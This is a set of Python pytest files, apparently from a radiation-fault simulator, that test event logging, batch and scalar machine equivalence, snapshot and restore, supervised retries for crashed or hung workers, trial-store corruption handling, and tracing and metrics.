        assert [e.time for e in log.events()] == [2.0, 3.0, 4.0]
        assert "overwritten" in log.render()

    def test_warnings_filter(self):
        log = EventLog()
        log.log("housekeeping", "nominal", time=0.0,
                severity=EvrSeverity.ACTIVITY_LO)
        log.log("sel.trip", "trip", time=1.0, severity=EvrSeverity.WARNING_LO)
        log.log("thermal.damage", "dead", time=2.0,
                severity=EvrSeverity.FATAL)
        assert [e.name for e in log.warnings()] == ["sel.trip", "thermal.damage"]

    def test_clear_command(self):
        log = EventLog()
        log.log("a", "x", time=0.0)
        log.log("b", "y")  # pending
        assert log.handle_command("CLEAR", {}) is None
        log.tick(self._ctx())
        assert log.events() == ()
        assert log.handle_command("NOPE", {}) is not None

    def test_capacity_validated(self):
        with pytest.raises(ConfigurationError):
            EventLog(capacity=0)
