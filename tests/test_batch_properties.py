"""Property-based identity: BatchMachines == N scalar Machines.

Hypothesis drives randomized machine specs, lane counts, tick
schedules, events and run segmentations through both backends and
requires equal engine digests *after every tick* — the strongest form
of the lockstep contract, covering RNG draw order across block
boundaries, event application order, DVFS transitions, ILD filter
state and death freezing. The fast tier stays at small N; the slow
tier repeats the invariant at N=256.
"""

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.sim import Machine, MachineSpec
from repro.sim.batch import (
    BatchMachines,
    FleetTicker,
    LaneEvents,
    SelStep,
    SeuStrike,
    TickConfig,
    TickProgram,
)

CONFIG = TickConfig()


def small_spec(n_cores: int) -> MachineSpec:
    return MachineSpec(
        n_cores=n_cores,
        dram_size=1 << 16,
        l1_lines=8,
        l2_lines=16,
        flash_capacity=1 << 16,
    )


@st.composite
def schedules(draw, max_ticks=48):
    """A utilization matrix plus optional overrides and events."""
    n_cores = draw(st.integers(1, 4))
    ticks = draw(st.integers(4, max_ticks))
    util = np.array(
        [
            [draw(st.integers(0, 10)) / 10.0 for _ in range(n_cores)]
            for _ in range(ticks)
        ]
    )
    override = None
    if draw(st.booleans()):
        spec = small_spec(n_cores)
        levels = spec.core_spec.freq_levels
        override = np.full(ticks, np.nan)
        for _ in range(draw(st.integers(1, 3))):
            tick = draw(st.integers(0, ticks - 1))
            override[tick] = levels[draw(st.integers(0, len(levels) - 1))]
    sels = tuple(
        SelStep(draw(st.integers(0, ticks - 1)),
                draw(st.sampled_from([0.02, 0.05, 0.09])))
        for _ in range(draw(st.integers(0, 2)))
    )
    seus = tuple(
        SeuStrike(draw(st.integers(0, ticks - 1)),
                  draw(st.integers(0, n_cores - 1)))
        for _ in range(draw(st.integers(0, 2)))
    )
    return n_cores, TickProgram(util, freq_override=override,
                                sels=sels, seus=seus)


def per_tick_programs(program: TickProgram):
    """Split a schedule into 1-tick programs, re-anchoring event ticks."""
    for k in range(program.n_ticks):
        override = (
            None
            if program.freq_override is None
            else program.freq_override[k : k + 1]
        )
        yield TickProgram(
            program.utilization[k : k + 1],
            freq_override=override,
            sels=tuple(SelStep(0, s.delta_amps)
                       for s in program.sels if s.tick == k),
            seus=tuple(SeuStrike(0, s.core)
                       for s in program.seus if s.tick == k),
        )


@given(data=schedules(), n=st.integers(1, 4), seed0=st.integers(0, 1 << 16))
@settings(max_examples=25, deadline=None)
def test_batch_equals_scalar_tick_for_tick(data, n, seed0):
    n_cores, program = data
    spec = small_spec(n_cores)
    seeds = [seed0 + i for i in range(n)]
    tickers = [FleetTicker(Machine(spec, seed=s), CONFIG) for s in seeds]
    batch = BatchMachines.from_specs(spec, seeds=seeds, config=CONFIG)
    for step in per_tick_programs(program):
        for ticker in tickers:
            ticker.run(step)
        batch.run(step)
        assert batch.lane_digests() == [t.state_digest() for t in tickers]


@given(data=schedules(), seed0=st.integers(0, 1 << 16))
@settings(max_examples=20, deadline=None)
def test_batch_equals_scalar_with_lane_events(data, seed0):
    n_cores, program = data
    spec = small_spec(n_cores)
    ticks = program.n_ticks
    events = [
        None,
        LaneEvents(sels=(SelStep(ticks // 2, 0.04),)),
        LaneEvents(seus=(SeuStrike(ticks // 3, n_cores - 1),)),
    ]
    seeds = [seed0, seed0 + 1, seed0 + 2]
    tickers = [FleetTicker(Machine(spec, seed=s), CONFIG) for s in seeds]
    for i, ticker in enumerate(tickers):
        ticker.run(program, events[i])
    batch = BatchMachines.from_specs(spec, seeds=seeds, config=CONFIG)
    batch.run(program, events)
    assert batch.lane_digests() == [t.state_digest() for t in tickers]


@pytest.mark.slow
@given(data=schedules(max_ticks=96), seed0=st.integers(0, 1 << 16))
@settings(max_examples=5, deadline=None)
def test_batch_equals_scalar_at_n256(data, seed0):
    n_cores, program = data
    spec = small_spec(n_cores)
    seeds = [seed0 + i for i in range(256)]
    tickers = [FleetTicker(Machine(spec, seed=s), CONFIG) for s in seeds]
    for ticker in tickers:
        ticker.run(program)
    batch = BatchMachines.from_specs(spec, seeds=seeds, config=CONFIG)
    batch.run(program)
    assert batch.lane_digests() == [t.state_digest() for t in tickers]
