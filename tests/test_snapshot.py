"""Machine snapshot/restore: the fresh-experiment path.

The property test drives a machine through arbitrary mutation
sequences and requires ``restore`` to bring the canonical state digest
back exactly; the unit tests pin the guard rails (spec mismatch,
attached-component consistency, the clock reset guard) and the
``SnapshotFactory`` cloning path campaigns use.
"""

import pickle

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.errors import ConfigurationError, SimulationError
from repro.radiation.events import SelEvent
from repro.radiation.sel import LatchupInjector
from repro.sim.machine import Machine, MachineSpec, SnapshotFactory

REGION_BYTES = 512


def _prepared_machine() -> "tuple[Machine, object]":
    machine = Machine.rpi_zero2w()
    region = machine.memory.alloc(REGION_BYTES, "scratch")
    machine.memory.write(region.addr, bytes(range(256)) * (REGION_BYTES // 256))
    machine.storage.store("blob", b"flight-data" * 40)
    return machine, region


# Each op is (code, a, b); operands are scaled into valid ranges so no
# sequence can raise — the property must hold for *any* interleaving.
_OPS = st.tuples(
    st.sampled_from(
        ["write", "flip", "read_cached", "write_cached", "advance",
         "rng", "reboot", "power_cycle", "disk_read", "disk_write"]
    ),
    st.integers(min_value=0, max_value=REGION_BYTES - 17),
    st.integers(min_value=1, max_value=16),
)


def _apply(machine: Machine, region, op) -> None:
    code, a, b = op
    if code == "write":
        machine.memory.write(region.addr + a, bytes([b]) * b)
    elif code == "flip":
        machine.memory.flip_bit(region.addr + a, b % 8)
    elif code == "read_cached":
        machine.read_via_cache(region.addr + a, b, group=0)
    elif code == "write_cached":
        machine.write_via_cache(region.addr + a, bytes([a % 256]) * b, group=0)
    elif code == "advance":
        machine.clock.advance(a * 0.25 + 0.001)
    elif code == "rng":
        machine.rng.random(b)
    elif code == "reboot":
        machine.reboot()
    elif code == "power_cycle":
        machine.power_cycle()
    elif code == "disk_read":
        machine.storage.read("blob", offset=a % 64, size=b)
    elif code == "disk_write":
        machine.storage.store(f"f{a % 4}", bytes([b]) * (a + 1))


class TestSnapshotRoundTrip:
    @given(ops=st.lists(_OPS, min_size=1, max_size=12))
    @settings(max_examples=40, deadline=None)
    def test_restore_recovers_digest_after_any_mutation(self, ops):
        machine, region = _prepared_machine()
        snap = machine.snapshot()
        digest = machine.state_digest()
        for op in ops:
            _apply(machine, region, op)
        machine.restore(snap)
        assert machine.state_digest() == digest
        # And the restored machine is a fully working one.
        machine.read_via_cache(region.addr, 16, group=0)

    @given(ops=st.lists(_OPS, min_size=1, max_size=6))
    @settings(max_examples=20, deadline=None)
    def test_clone_from_snapshot_matches_and_diverges_independently(self, ops):
        machine, region = _prepared_machine()
        snap = machine.snapshot()
        clone = Machine.from_snapshot(snap)
        assert clone.state_digest() == machine.state_digest()
        original = machine.state_digest()
        clone_region = clone.memory.allocations[0]
        for op in ops:
            _apply(clone, clone_region, op)
        # The template never sees the clone's mutations.
        assert machine.state_digest() == original
        assert Machine.from_snapshot(snap).state_digest() == original

    def test_mutation_changes_digest(self):
        machine, region = _prepared_machine()
        digest = machine.state_digest()
        machine.memory.flip_bit(region.addr, 3)
        assert machine.state_digest() != digest

    def test_rng_state_round_trips(self):
        machine, _ = _prepared_machine()
        snap = machine.snapshot()
        expected = machine.rng.random(4).tolist()
        machine.restore(snap)
        assert machine.rng.random(4).tolist() == expected


class TestGuardRails:
    def test_restore_rejects_different_spec(self):
        machine, _ = _prepared_machine()
        other = Machine(MachineSpec(name="other", n_cores=2))
        with pytest.raises(ConfigurationError):
            other.restore(machine.snapshot())

    def test_clock_reset_refuses_pending_state(self):
        machine, _ = _prepared_machine()
        with pytest.raises(SimulationError, match="pending component state"):
            machine.clock.reset()
        machine.clock.reset(force=True)

    def test_clock_reset_allowed_on_pristine_machine(self):
        machine = Machine.rpi_zero2w()
        machine.clock.advance(5.0)
        machine.clock.reset()
        assert machine.clock.now == 0.0

    def test_attached_component_state_rides_the_snapshot(self):
        machine, _ = _prepared_machine()
        injector = LatchupInjector(machine)
        injector.induce(SelEvent(time=0.0, delta_amps=0.07, location="soc"))
        snap = machine.snapshot()
        machine.power_cycle()  # clears the latchup
        assert not injector.any_active
        machine.restore(snap)
        assert injector.any_active
        assert machine.extra_current_draw == pytest.approx(0.07)

    def test_from_snapshot_rejects_attached_components(self):
        machine, _ = _prepared_machine()
        LatchupInjector(machine)
        with pytest.raises(SimulationError, match="attached"):
            Machine.from_snapshot(machine.snapshot())

    def test_restore_requires_matching_attached_names(self):
        machine, _ = _prepared_machine()
        snap = machine.snapshot()
        LatchupInjector(machine)
        with pytest.raises(SimulationError, match="attached"):
            machine.restore(snap)


class TestSnapshotFactory:
    def test_clones_are_identical(self):
        factory = SnapshotFactory(Machine.rpi_zero2w)
        assert factory().state_digest() == factory().state_digest()

    def test_warm_state_is_stamped_into_every_clone(self):
        def warm(machine):
            region = machine.memory.alloc(64, "w")
            machine.memory.write(region.addr, b"y" * 64)
            machine.clock.advance(2.0)

        factory = SnapshotFactory(Machine.rpi_zero2w, warm=warm)
        clone = factory()
        assert clone.clock.now == 2.0
        assert clone.memory.allocated_bytes == 64

    def test_factory_pickles_into_workers(self):
        factory = SnapshotFactory(Machine.rpi_zero2w)
        thawed = pickle.loads(pickle.dumps(factory))
        assert thawed().state_digest() == factory().state_digest()


class TestMemorySnapshotFootprint:
    def test_snapshot_stores_only_the_touched_prefix(self):
        machine, _ = _prepared_machine()
        snap = machine.memory.snapshot()
        # A 48 MB-class device snapshots in KB when only a few hundred
        # bytes were ever touched.
        assert snap.size == machine.memory.size
        assert len(snap.data) < 1024 * 1024
        assert len(snap.data) >= REGION_BYTES
