"""Ground-segment hardening: supervision, store integrity, host chaos.

Three claims under test (``docs/ground.md``):

1. the supervised executor keeps the determinism contract — a batch
   that suffers crashes, hangs, or transient trial errors produces
   byte-identical values to an undisturbed one, with poison tasks
   quarantined instead of killing the run;
2. the trial store never serves a defective entry — truncation,
   corruption, stale schemas, and unreadable files are counted,
   quarantined, and re-run, and writes are atomic under concurrency
   and loud (:class:`~repro.errors.StoreWriteError`) on terminal disk
   faults;
3. the host-fault chaos scenarios pass end to end.
"""

import errno
import json
import multiprocessing
import os
import time
from pathlib import Path

import pytest

from repro.campaign import (
    STORE_SCHEMA,
    Campaign,
    Trial,
    TrialStore,
    execute,
    status,
)
from repro.campaign.store import entry_checksum
from repro.errors import ConfigurationError, StoreWriteError
from repro.ground import (
    GroundPolicy,
    QuarantinedTrial,
    quarantine_manifest,
    supervised_pmap_report,
)
from repro.obs import MetricsRegistry, read_trace
from repro.obs.summarize import has_incident_chain, summarize_records
from repro.parallel import pmap_report

# A tight policy so retry/backoff paths run in milliseconds.
FAST = dict(backoff_base_seconds=0.01, backoff_max_seconds=0.05)


def _draw(item, rng, tracer=None):
    """The undisturbed task: one deterministic draw per index."""
    return int(rng.integers(0, 10_000)) + 100 * item["i"]


def _faulty(item, rng, tracer=None):
    """Fault ``item['bad']`` for its first ``item['fail']`` attempts.

    Attempts are counted in a marker file (in-memory state dies with a
    crashed worker); the fault fires *before* the RNG is touched, so a
    surviving retry draws exactly what a first-try success would.
    """
    marker = Path(item["marker_dir"]) / f"{item['i']}.attempts"
    attempt = int(marker.read_text()) + 1 if marker.exists() else 1
    marker.write_text(str(attempt))
    if item["i"] == item["bad"] and attempt <= item["fail"]:
        kind = item["kind"]
        if kind == "crash":
            os._exit(9)
        if kind == "hang":
            time.sleep(60.0)
        raise RuntimeError(f"injected fault, attempt {attempt}")
    return _draw(item, rng)


def _items(n, tmp_path, *, bad=-1, fail=0, kind="error"):
    return [
        {
            "i": i,
            "bad": bad,
            "fail": fail,
            "kind": kind,
            "marker_dir": str(tmp_path),
        }
        for i in range(n)
    ]


class TestGroundPolicy:
    def test_rejects_bad_knobs(self):
        with pytest.raises(ConfigurationError):
            GroundPolicy(max_attempts=0)
        with pytest.raises(ConfigurationError):
            GroundPolicy(timeout_seconds=0.0)
        with pytest.raises(ConfigurationError):
            GroundPolicy(backoff_factor=0.5)
        with pytest.raises(ConfigurationError):
            GroundPolicy(max_worker_losses=-1)

    def test_backoff_grows_and_caps(self):
        policy = GroundPolicy(
            backoff_base_seconds=0.1, backoff_factor=2.0,
            backoff_max_seconds=0.3,
        )
        assert policy.backoff_seconds(1) == pytest.approx(0.1)
        assert policy.backoff_seconds(2) == pytest.approx(0.2)
        assert policy.backoff_seconds(5) == pytest.approx(0.3)


class TestSupervisedPmap:
    def test_matches_plain_pmap_without_faults(self, tmp_path):
        items = _items(5, tmp_path)
        plain = pmap_report(_draw, items, seed=11, workers=1)
        supervised = pmap_report(
            _draw, items, seed=11, workers=2,
            supervision=GroundPolicy(**FAST),
        )
        assert supervised.values == plain.values
        assert supervised.mode in ("ground-pool", "ground-serial")
        assert not supervised.quarantined

    def test_crashed_worker_is_replaced_and_retried(self, tmp_path):
        items = _items(4, tmp_path, bad=1, fail=1, kind="crash")
        baseline = pmap_report(_draw, items, seed=3, workers=1)
        metrics = MetricsRegistry()
        report = pmap_report(
            _faulty, items, seed=3, workers=2,
            supervision=GroundPolicy(**FAST), metrics=metrics,
        )
        # Byte-identical despite the crash: the retry reuses the seed.
        assert report.values == baseline.values
        assert report.retries == 1 and report.worker_losses == 1
        counters = metrics.snapshot()["counters"]
        assert counters["ground.worker_crashes"] == 1
        assert counters["ground.retries"] == 1

    def test_transient_errors_retried_to_success(self, tmp_path):
        items = _items(4, tmp_path, bad=2, fail=2, kind="error")
        baseline = pmap_report(_draw, items, seed=5, workers=1)
        report = pmap_report(
            _faulty, items, seed=5, workers=2,
            supervision=GroundPolicy(max_attempts=3, **FAST),
        )
        assert report.values == baseline.values
        assert report.retries == 2 and not report.quarantined

    def test_hung_worker_killed_by_timeout(self, tmp_path):
        items = _items(3, tmp_path, bad=0, fail=1, kind="hang")
        baseline = pmap_report(_draw, items, seed=7, workers=1)
        report = pmap_report(
            _faulty, items, seed=7, workers=2,
            supervision=GroundPolicy(timeout_seconds=0.5, **FAST),
        )
        assert report.values == baseline.values
        assert report.timeouts == 1 and report.worker_losses == 1

    def test_poison_task_quarantined_not_fatal(self, tmp_path):
        items = _items(4, tmp_path, bad=3, fail=99, kind="error")
        baseline = pmap_report(_draw, items, seed=9, workers=1)
        metrics = MetricsRegistry()
        report = pmap_report(
            _faulty, items, seed=9, workers=2,
            supervision=GroundPolicy(max_attempts=2, **FAST),
            metrics=metrics,
        )
        assert [report.values[i] for i in (0, 1, 2)] == [
            baseline.values[i] for i in (0, 1, 2)
        ]
        assert report.values[3] is None
        assert len(report.quarantined) == 1
        q = report.quarantined[0]
        assert q.index == 3 and q.attempts == 2
        assert "injected fault" in q.error
        assert metrics.snapshot()["counters"]["ground.quarantined"] == 1

    def test_pool_loss_degrades_to_serial(self, tmp_path):
        # Three crashes against a budget of two: attempts 1-3 die in
        # the pool, the serial drain completes attempt 4 in-process.
        items = _items(4, tmp_path, bad=1, fail=3, kind="crash")
        baseline = pmap_report(_draw, items, seed=13, workers=1)
        report = pmap_report(
            _faulty, items, seed=13, workers=2,
            supervision=GroundPolicy(
                max_attempts=6, max_worker_losses=2, **FAST
            ),
        )
        assert report.serial_fallback
        assert report.worker_losses == 3
        assert report.values == baseline.values

    def test_on_result_streams_by_index(self, tmp_path):
        landed = {}
        items = _items(4, tmp_path, bad=0, fail=1, kind="error")
        pmap_report(
            _faulty, items, seed=1, workers=2,
            supervision=GroundPolicy(**FAST),
            on_result=lambda i, value: landed.__setitem__(i, value),
        )
        assert sorted(landed) == [0, 1, 2, 3]

    def test_ground_events_ride_into_the_trace(self, tmp_path):
        items = _items(3, tmp_path, bad=1, fail=1, kind="error")
        trace = tmp_path / "ground.jsonl"
        report = supervised_pmap_report(
            _faulty, items, seed=2, workers=2,
            policy=GroundPolicy(**FAST), trace_path=str(trace),
        )
        names = [r.name for r in report.ground_events[1]]
        assert names == ["ground.trial_error", "ground.retry"]
        recorded = [r for r in read_trace(str(trace)) if r.task == 1]
        assert [r.name for r in recorded[:2]] == names


class TestSupervisedCampaign:
    def _baseline(self, tmp_path):
        camp = Campaign(
            name="ground-exec",
            trial_fn=_draw,
            trials=[
                Trial(params={"i": i}, item={"i": i}) for i in range(4)
            ],
            seed=21,
        )
        return execute(camp, workers=1)

    def test_quarantine_carries_campaign_identity(self, tmp_path):
        camp = Campaign(
            name="ground-exec",
            trial_fn=_faulty,
            trials=[
                Trial(
                    params={"i": i},
                    item=_items(4, tmp_path, bad=2, fail=99)[i],
                )
                for i in range(4)
            ],
            seed=21,
        )
        store = TrialStore(tmp_path / "store")
        metrics = MetricsRegistry()
        result = execute(
            camp, workers=2, store=store, metrics=metrics,
            supervision=GroundPolicy(max_attempts=2, **FAST),
        )
        baseline = self._baseline(tmp_path)
        assert len(result.quarantined) == 1
        q = result.quarantined[0]
        assert isinstance(q, QuarantinedTrial)
        assert q.index == 2 and q.params == {"i": 2}
        assert q.fingerprint == result.specs[2].fingerprint
        assert result.values[2] is None
        assert [result.values[i] for i in (0, 1, 3)] == [
            baseline.values[i] for i in (0, 1, 3)
        ]
        # The quarantined trial is NOT in the store: a later healthy
        # run re-executes it rather than trusting a missing result.
        assert store.get(q.fingerprint) is None
        counters = metrics.snapshot()["counters"]
        assert counters["campaign.trials.quarantined"] == 1
        manifest = quarantine_manifest(result)
        assert manifest["campaign"] == "ground-exec"
        assert manifest["quarantined"][0]["index"] == 2

    def test_healthy_rerun_completes_the_quarantined_trial(self, tmp_path):
        faulted = Campaign(
            name="ground-exec",
            trial_fn=_faulty,
            trials=[
                Trial(
                    params={"i": i},
                    item=_items(4, tmp_path, bad=2, fail=99)[i],
                )
                for i in range(4)
            ],
            seed=21,
        )
        store = TrialStore(tmp_path / "store")
        execute(
            faulted, workers=2, store=store,
            supervision=GroundPolicy(max_attempts=2, **FAST),
        )
        clean = Campaign(
            name="ground-exec",
            trial_fn=_draw,
            trials=[
                Trial(params={"i": i}, item={"i": i}) for i in range(4)
            ],
            seed=21,
        )
        resumed = execute(clean, workers=1, store=store)
        assert resumed.store_hits == 3 and resumed.executed == 1
        assert resumed.values == self._baseline(tmp_path).values
        assert not resumed.quarantined


# ----------------------------------------------------------------------
# store integrity
# ----------------------------------------------------------------------
FP = "ab" + "0" * 62


def _entry(result=1) -> dict:
    return {"schema": STORE_SCHEMA, "fingerprint": FP, "result": result}


class TestStoreIntegrity:
    def test_put_stamps_a_valid_checksum(self, tmp_path):
        store = TrialStore(tmp_path)
        store.put(FP, _entry())
        on_disk = json.loads(store.path(FP).read_text())
        assert on_disk["checksum"] == entry_checksum(on_disk)

    def test_truncated_entry_quarantined_and_counted(self, tmp_path):
        store = TrialStore(tmp_path)
        store.put(FP, _entry())
        path = store.path(FP)
        path.write_bytes(path.read_bytes()[:20])
        with pytest.warns(RuntimeWarning, match="corrupt"):
            assert store.get(FP) is None
        assert store.counters["corrupt"] == 1
        assert store.counters["quarantined"] == 1
        assert list(store.quarantine_dir.glob("*.json"))
        assert not path.exists()  # moved aside, not left to rot

    def test_flipped_byte_fails_the_checksum(self, tmp_path):
        store = TrialStore(tmp_path)
        store.put(FP, _entry(result=[1, 2, 3]))
        path = store.path(FP)
        raw = bytearray(path.read_bytes())
        raw[len(raw) // 2] ^= 0xFF
        path.write_bytes(bytes(raw))
        with pytest.warns(RuntimeWarning):
            assert store.get(FP) is None
        assert store.counters["corrupt"] == 1

    def test_wrong_schema_is_stale(self, tmp_path):
        store = TrialStore(tmp_path)
        path = store.path(FP)
        path.parent.mkdir(parents=True)
        path.write_text(json.dumps({"schema": 1, "result": 1}))
        with pytest.warns(RuntimeWarning, match="stale"):
            assert store.get(FP) is None
        assert store.counters["stale"] == 1

    def test_non_dict_payload_is_corrupt(self, tmp_path):
        store = TrialStore(tmp_path)
        path = store.path(FP)
        path.parent.mkdir(parents=True)
        path.write_text(json.dumps([1, 2, 3]))
        with pytest.warns(RuntimeWarning, match="corrupt"):
            assert store.get(FP) is None
        assert store.counters["corrupt"] == 1

    def test_unreadable_entry_counted_not_crashed(self, tmp_path, monkeypatch):
        store = TrialStore(tmp_path)
        store.put(FP, _entry())
        target = store.path(FP)
        real_open = Path.open

        def deny(self, *args, **kwargs):
            if self == target:
                raise OSError(errno.EACCES, "Permission denied")
            return real_open(self, *args, **kwargs)

        monkeypatch.setattr(Path, "open", deny)
        with pytest.warns(RuntimeWarning, match="unreadable"):
            assert store.get(FP) is None
        assert store.counters["unreadable"] == 1

    def test_concurrent_puts_leave_one_complete_entry(self, tmp_path):
        ctx = multiprocessing.get_context("fork")
        with ctx.Pool(4) as pool:
            pool.map(
                _concurrent_put, [(str(tmp_path), i) for i in range(12)]
            )
        store = TrialStore(tmp_path)
        entry = store.get(FP)
        # Whatever write won, the surviving file is complete and
        # checksum-valid — atomic rename forbids interleaving.
        assert entry is not None
        assert entry["checksum"] == entry_checksum(entry)
        assert not list(tmp_path.glob("??/.*.tmp"))

    def test_enospc_becomes_store_write_error(self, tmp_path, monkeypatch):
        store = TrialStore(tmp_path)

        def full_disk(path, entry):
            raise OSError(errno.ENOSPC, "No space left on device")

        monkeypatch.setattr(store, "_write_entry", full_disk)
        with pytest.raises(StoreWriteError, match="resume"):
            store.put(FP, _entry())

    def test_other_oserrors_pass_through(self, tmp_path, monkeypatch):
        store = TrialStore(tmp_path)

        def io_error(path, entry):
            raise OSError(errno.EIO, "I/O error")

        monkeypatch.setattr(store, "_write_entry", io_error)
        with pytest.raises(OSError) as excinfo:
            store.put(FP, _entry())
        assert not isinstance(excinfo.value, StoreWriteError)

    def test_verify_scrub_and_stats(self, tmp_path):
        store = TrialStore(tmp_path)
        good_fp = "cd" + "2" * 62
        store.put(FP, _entry())
        store.put(good_fp, {"schema": STORE_SCHEMA, "campaign": "x", "result": 2})
        bad = store.path(FP)
        bad.write_text(bad.read_text()[:-4])

        verify = store.verify()
        assert verify.total == 2 and verify.ok == 1
        assert verify.corrupt == [FP] and not verify.clean
        assert bad.exists()  # verify is read-only

        scrub = store.scrub()
        assert scrub.quarantined == 1 and not bad.exists()

        stats = store.stats()
        assert stats["entries"] == 1 and stats["quarantined"] == 1
        assert stats["campaigns"] == {"x": 1}
        assert stats["counters"]["corrupt"] == 1

    def test_status_surfaces_corruption_as_pending(self, tmp_path):
        camp = Campaign(
            name="rot",
            trial_fn=_draw,
            trials=[Trial(params={"i": i}, item={"i": i}) for i in range(3)],
            seed=4,
        )
        store = TrialStore(tmp_path)
        baseline = execute(camp, workers=1, store=store)
        victim = store.path(baseline.specs[1].fingerprint)
        victim.write_text("{torn")
        with pytest.warns(RuntimeWarning):
            st = status(camp, store)
        assert st.completed == 2 and st.corrupt == 1 and st.pending == 1
        # The re-run executes exactly the rotten trial, byte-identically.
        resumed = execute(camp, workers=1, store=store)
        assert resumed.executed == 1 and resumed.store_hits == 2
        assert resumed.values == baseline.values


def _concurrent_put(args):
    root, payload = args
    TrialStore(root).put(
        FP, {"schema": STORE_SCHEMA, "fingerprint": FP, "result": payload}
    )
    return True


# ----------------------------------------------------------------------
# host chaos + observability
# ----------------------------------------------------------------------
class TestHostChaos:
    def test_single_scenario_fast(self):
        from repro.ground import default_host_scenarios, run_host_scenario

        scenario = next(
            s for s in default_host_scenarios() if s.name == "worker-crash"
        )
        report = run_host_scenario(scenario, workers=2)
        assert report.ok, report.violations
        assert report.counters.get("ground.worker_crashes") == 1

    @pytest.mark.slow
    def test_full_matrix_digest_stable_across_worker_counts(self):
        from repro.ground import run_host_chaos

        serial_reports, serial_digest = run_host_chaos(workers=1)
        pooled_reports, pooled_digest = run_host_chaos(workers=3)
        for report in (*serial_reports, *pooled_reports):
            assert report.ok, (report.scenario, report.violations)
        assert serial_digest == pooled_digest


class TestGroundObservability:
    def test_ground_events_open_an_incident_chain(self, tmp_path):
        items = _items(3, tmp_path, bad=1, fail=1, kind="error")
        trace = tmp_path / "t.jsonl"
        supervised_pmap_report(
            _faulty, items, seed=2, workers=2,
            policy=GroundPolicy(**FAST), trace_path=str(trace),
        )
        records = [r for r in read_trace(str(trace)) if r.task == 1]
        assert has_incident_chain(records)
        rendered = summarize_records(records, source="t.jsonl")
        assert "ground.trial_error" in rendered
        assert "ground.retry" in rendered
        assert "! detect" in rendered and "✓ recover" in rendered
