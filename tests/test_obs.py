"""Tests for ``repro.obs``: tracing, metrics, incident summaries."""

import pytest

from repro.errors import ConfigurationError
from repro.obs import (
    NULL_OBS,
    MetricsRegistry,
    Observability,
    TraceRecord,
    TraceRecorder,
    merge_task_records,
    read_trace,
    summarize_records,
    write_records,
)
from repro.obs.metrics import Histogram
from repro.obs.summarize import has_incident_chain
from repro.parallel import pmap


class _Clock:
    def __init__(self, now=0.0):
        self.now = now


class TestTraceRecord:
    def test_span_needs_duration(self):
        with pytest.raises(ConfigurationError):
            TraceRecord(t=0.0, kind="span", name="x")

    def test_unknown_kind_rejected(self):
        with pytest.raises(ConfigurationError):
            TraceRecord(t=0.0, kind="blip", name="x")

    def test_to_dict_omits_absent_fields(self):
        record = TraceRecord(t=1.0, kind="event", name="a.b")
        assert record.to_dict() == {"t": 1.0, "kind": "event", "name": "a.b"}

    def test_json_roundtrip(self):
        import json

        record = TraceRecord(
            t=2.5, kind="span", name="emr.run", dur=0.25,
            attrs={"scheme": "emr", "jobs": 9}, task=3,
        )
        assert TraceRecord.from_dict(json.loads(record.json_line())) == record

    def test_json_line_is_sorted_and_compact(self):
        line = TraceRecord(t=1.0, kind="event", name="z",
                           attrs={"b": 1, "a": 2}).json_line()
        assert line.index('"kind"') < line.index('"name"') < line.index('"t"')
        assert ": " not in line


class TestTraceRecorder:
    def test_event_and_span_order(self):
        tracer = TraceRecorder()
        tracer.event("inject.seu", t=1.0, bits=1)
        tracer.span("emr.run", t=0.0, dur=2.0)
        kinds = [(r.kind, r.name) for r in tracer.records()]
        assert kinds == [("event", "inject.seu"), ("span", "emr.run")]
        assert tracer.emitted == 2

    def test_clock_supplies_default_timestamp(self):
        tracer = TraceRecorder(clock=_Clock(7.25))
        tracer.event("sel.detection")
        assert tracer.records()[0].t == 7.25

    def test_ring_wraparound_keeps_newest(self):
        tracer = TraceRecorder(ring_size=4)
        for i in range(10):
            tracer.event("tick", t=float(i))
        kept = [r.t for r in tracer.records()]
        assert kept == [6.0, 7.0, 8.0, 9.0]
        assert tracer.emitted == 10  # eviction doesn't lose the count

    def test_invalid_ring_size(self):
        with pytest.raises(ConfigurationError):
            TraceRecorder(ring_size=0)

    def test_disabled_recorder_is_noop(self):
        tracer = TraceRecorder(enabled=False)
        tracer.event("x", t=0.0)
        tracer.span("y", t=0.0, dur=1.0)
        with tracer.measure("z"):
            pass
        assert tracer.records() == ()
        assert tracer.emitted == 0

    def test_null_obs_is_disabled(self):
        assert not NULL_OBS.enabled
        assert Observability.off() is NULL_OBS
        assert Observability.on().enabled

    def test_measure_spans_clock_advance(self):
        clock = _Clock(10.0)
        tracer = TraceRecorder(clock=clock)
        with tracer.measure("emr.run", scheme="emr"):
            clock.now = 12.5
        (record,) = tracer.records()
        assert record.kind == "span"
        assert record.t == 10.0
        assert record.dur == 2.5
        assert record.attrs == {"scheme": "emr"}

    def test_sink_roundtrip(self, tmp_path):
        path = tmp_path / "t.jsonl"
        with TraceRecorder(sink=path) as tracer:
            tracer.event("inject.seu", t=0.5, target="dram")
            tracer.span("emr.run", t=0.0, dur=1.5)
        loaded = read_trace(path)
        assert [r.name for r in loaded] == ["inject.seu", "emr.run"]
        assert loaded[0].attrs == {"target": "dram"}

    def test_read_trace_reports_bad_line(self, tmp_path):
        path = tmp_path / "bad.jsonl"
        path.write_text('{"t": 0.0, "kind": "event", "name": "ok"}\nnot json\n')
        with pytest.raises(ConfigurationError, match="bad.jsonl:2"):
            read_trace(path)


class TestMetrics:
    def test_counter_monotonic(self):
        registry = MetricsRegistry()
        counter = registry.counter("emr.votes")
        counter.inc()
        counter.inc(2.0)
        assert counter.value == 3.0
        with pytest.raises(ConfigurationError):
            counter.inc(-1.0)

    def test_gauge_last_write_wins(self):
        gauge = MetricsRegistry().gauge("g")
        gauge.set(1.0)
        gauge.set(0.25)
        assert gauge.value == 0.25

    def test_histogram_bucket_edges(self):
        # Prometheus `le` semantics: a value on a bound lands in that
        # bound's bucket; above the last bound is the overflow bucket.
        histogram = Histogram("h", bounds=(1.0, 2.0))
        for value in (0.5, 1.0, 1.5, 2.0, 2.5):
            histogram.observe(value)
        assert histogram.counts == [2, 2, 1]
        assert histogram.count == 5
        assert histogram.min == 0.5 and histogram.max == 2.5
        assert histogram.mean == pytest.approx(7.5 / 5)

    def test_histogram_bounds_must_increase(self):
        with pytest.raises(ConfigurationError):
            Histogram("h", bounds=(2.0, 1.0))
        with pytest.raises(ConfigurationError):
            Histogram("h", bounds=())

    def test_registry_get_or_create(self):
        registry = MetricsRegistry()
        assert registry.counter("a") is registry.counter("a")
        assert "a" in registry and len(registry) == 1

    def test_registry_kind_conflict(self):
        registry = MetricsRegistry()
